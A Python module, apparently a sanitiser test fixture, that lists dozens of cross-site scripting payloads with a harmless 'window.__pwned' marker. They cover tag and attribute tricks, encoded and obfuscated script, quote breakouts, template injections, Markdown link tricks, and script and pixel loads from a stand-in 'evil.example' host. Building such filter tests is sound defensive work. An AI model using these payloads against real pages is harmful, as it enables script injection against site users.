"""Texts that run a script in a careless page, by every way in that we know. All set ``window.__pwned``.

They were written for this project, after the kinds of tricks that OWASP's cheat sheet on filter evasion describes.
"""

RUN = "window.__pwned=1"
ENTITIES = "".join(f"&#{ord(each)};" for each in RUN)
HEX = "".join(f"&#x{ord(each):x}" for each in RUN)
ESCAPED = "".join(f"\\u{ord(each):04x}" for each in "window") + ".__pwned=1"

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT >{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN};//<</script>",
    f"<script\x0b>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f'<script src="data:text/javascript,{RUN}"></script>',
    f"<script type=module>{RUN}</script>",
    '<script src="//evil.example/x.js"></script>',
    "<script src=http://evil.example/x.js?<b>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror=`{RUN}`>",
    f"<img src=x\tonerror\n=\n{RUN}>",
    f"<img src=x onerror={HEX}>",
    "<img src=x:x onerror=eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))>",
    f"<img srcset='x 1x' onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{ENTITIES}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>go</text></a></svg>",
    f"<math><a href=javascript:{RUN}>go</a></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<applet code=javascript:{RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>press</button>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<a href='&#106;avascript:{RUN}'>go</a>",
    f"<a href=vbscript:{RUN}>go</a>",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<style>body{background:url(http://evil.example/x.png)}</style>",
    f"<div onmouseover={RUN} style='position:fixed;inset:0'>x</div>",
    f"<template><script>{RUN}</script></template>",
    f"<portal src=javascript:{RUN}>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"</textarea><script>{RUN}</script>",
]

BREAKS = [
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}' x='",
    f"';{RUN};//",
    f'";{RUN};//',
    f'\\";{RUN};//',
    f"`-{RUN}-`",
    f"${{{RUN}}}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    f"<%= {RUN} %>",
    f"]]>{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"javascript:{RUN}",
    f" \x01javascript:{RUN}",
    "//evil.example/x",
    "constructor",
]

MARKDOWN = [
    f"[go](javascript:{RUN})",
    f"[go](JaVaScRiPt:{RUN})",
    f"[go](java&#x09;script:{RUN})",
    f"[go](&#106;avascript:{RUN})",
    f"[go](<javascript:{RUN}>)",
    f"[go](data:text/html,<script>{RUN}</script>)",
    f"[go](vbscript:{RUN})",
    "[go](http://evil.example/)",
    "[go](//evil.example/)",
    f"[go][bad]\n\n[bad]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    "![x](http://evil.example/pixel.png)",
    f'[x](x "t" onmouseover={RUN})',
    f"    <script>{RUN}</script>",
    f"- <svg onload={RUN}>\n  - [go](javascript:{RUN})",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
]

ALL = ELEMENTS + BREAKS + MARKDOWN
